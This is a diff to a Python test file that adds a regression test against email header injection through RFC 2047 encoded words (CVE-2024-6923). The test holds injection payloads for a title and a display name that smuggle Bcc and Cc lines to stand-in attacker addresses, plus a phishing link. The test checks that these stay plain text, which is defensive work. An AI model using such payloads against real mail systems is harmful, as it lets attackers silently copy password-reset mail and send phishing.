@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import re
 from datetime import UTC, datetime, timedelta
+from email import message_from_bytes
 from email.headerregistry import AddressHeader
 from email.policy import default as default_policy
 
@@ -151,6 +152,37 @@ def test_an_unknown_zone_reads_as_utc() -> None:
     nowhere = Recipient("Ann", "ann@example.org", "Mars/Olympus_Mons")
     _, text, _ = render("password_reset", nowhere, CONTEXTS["password_reset"])
     assert "Sun 1 Nov 2026, 05:00 (UTC)" in text
+
+
+# RFC 2047 encoded words that decode to CR LF and header lines: plain ASCII, so no form's
+# "one line" check sees them. The email package decoded them on the way in and (on Pythons
+# before 3.11.10 / 3.12.5, CVE-2024-6923) wrote the CR LF out raw: an outside probe had its
+# title and display name add Bcc and Cc lines, start the body early, and take the owner's own
+# address off a reset mail.
+INJECTED_TITLE = (
+    "=?utf-8?q?Py=0D=0ABcc:evil@attacker.example=0D=0A=0D=0AClick_http://phish.example?="
+)
+INJECTED_NAME = "=?utf-8?q?Leo=0D=0ACc:spy@attacker.example?="
+
+
+@pytest.mark.parametrize("kind", sorted(KINDS))
+def test_typed_text_never_becomes_header_lines(kind: str) -> None:
+    context = {
+        key: INJECTED_TITLE if value == HOSTILE else value for key, value in CONTEXTS[kind].items()
+    }
+    leo = Recipient(INJECTED_NAME, "leo@example.org", "UTC")
+    sent = compose(kind, leo, context, sender=SENDER, now=START).as_bytes()
+
+    received = message_from_bytes(sent, policy=default_policy)
+    assert received["Cc"] is None and received["Bcc"] is None
+    assert [a.addr_spec for a in received["To"].addresses] == ["leo@example.org"]
+    assert "\n" not in str(received["Subject"]) and "\r" not in str(received["Subject"])
+    assert received.get_content_type() == "multipart/alternative"
+    assert b"\r\nBcc:" not in sent and b"\r\nCc:" not in sent and b"\nBcc:" not in sent
+    # The text stays what was typed, shown, not obeyed.
+    assert "Leo=0D=0ACc:spy@attacker.example" in str(received["To"])
+    if INJECTED_TITLE in context.values() and kind != "review_received":
+        assert "Bcc:evil@attacker.example" in str(received["Subject"])
 
 
 def test_compose_refuses_to_set_its_own_headers_twice() -> None:
